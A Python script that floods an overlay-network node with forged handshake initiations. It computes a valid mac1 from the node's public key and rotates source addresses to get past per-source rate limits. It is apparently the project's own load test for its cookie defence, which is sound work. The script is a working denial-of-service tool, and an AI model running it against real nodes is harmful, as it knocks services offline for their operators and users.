#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""Flood a node with handshake initiations that pass mac1.

usage: hs_flood.py DST_IP:PORT RESPONDER_ED25519_PUB_B64 NODE_ID SECONDS [SRC_IP,...]

Anyone who knows a node's public key can compute mac1 (docs/protocol.md,
"MACs and cookies"), so these INITs claiming to come from NODE_ID get past
the cheapest check and would cost the responder its Diffie-Hellmans if
it did not ask for cookies under load.  Random bytes elsewhere: Noise
fails on them.  With source addresses, the INITs take turns among them
(the kernel limits each source's rate; many sources together still load
the daemon).  Prints how many were sent."""
import base64, hashlib, os, socket, sys, time

P = 2**255 - 19


def x25519_from_ed25519(pk):
    y = int.from_bytes(pk, "little") & ((1 << 255) - 1)
    u = (1 + y) * pow(1 - y, P - 2, P) % P
    return u.to_bytes(32, "little")


def main():
    host, port = sys.argv[1].rsplit(":", 1)
    pub = base64.b64decode(sys.argv[2])
    node_id, secs = int(sys.argv[3]), float(sys.argv[4])
    key = hashlib.blake2b(b"ovl-mac1" + x25519_from_ed25519(pub),
                          digest_size=32).digest()
    socks = []
    for src in (sys.argv[5].split(",") if len(sys.argv) > 5 else [""]):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((src, 0))
        socks.append(s)
    cert_len = 200
    body_len = 152 + cert_len - 12 - 32
    end, sent = time.monotonic() + secs, 0
    while time.monotonic() < end:
        for _ in range(64):
            msg = (bytes([0x10, 0, 0, 0]) + node_id.to_bytes(4, "big") +
                   os.urandom(4) + os.urandom(body_len))
            mac1 = hashlib.blake2b(msg, key=key, digest_size=16).digest()
            try:
                s = socks[sent % len(socks)]
                s.sendto(msg + mac1 + bytes(16), (host.strip("[]"), int(port)))
                sent += 1
            except OSError:
                pass
    print(sent)


main()
